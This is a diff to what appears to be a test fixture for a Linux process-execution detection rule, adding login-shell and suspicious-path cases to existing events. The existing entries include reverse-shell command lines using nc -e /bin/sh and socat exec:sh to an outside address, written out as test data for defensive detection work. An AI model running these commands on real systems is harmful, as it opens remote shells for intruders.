@@ -11,6 +11,11 @@ base {"event.category": "process", "event.type": "start", "event.action": "exec"
 + nc-e {"process.executable": "/usr/bin/nc", "process.args": ["nc", "198.51.100.1", "443", "-e", "/bin/sh"]}
 + socat {"process.executable": "/usr/bin/socat", "process.args": ["socat", "tcp:198.51.100.1:1", "exec:sh"]}
 + python {"process.executable": "/usr/bin/python3", "process.args": ["python3", "-c", "import socket"]}
++ login-li {"process.args": ["bash", "-li"]}
++ login-il {"process.args": ["bash", "-il"]}
++ login--login {"process.args": ["bash", "--login"]}
++ from-var-tmp {"process.executable": "/var/tmp/x", "process.args": ["x"]}
++ from-self {"process.executable": "/proc/self/fd/3", "process.args": ["x"]}
 + from-tmp {"process.executable": "/tmp/x", "process.args": ["/tmp/x", "-d"]}
 + from-shm {"process.executable": "/dev/shm/x", "process.args": ["x"]}
 + from-memory {"process.executable": "memfd:x", "process.name": "x", "process.args": ["x"]}
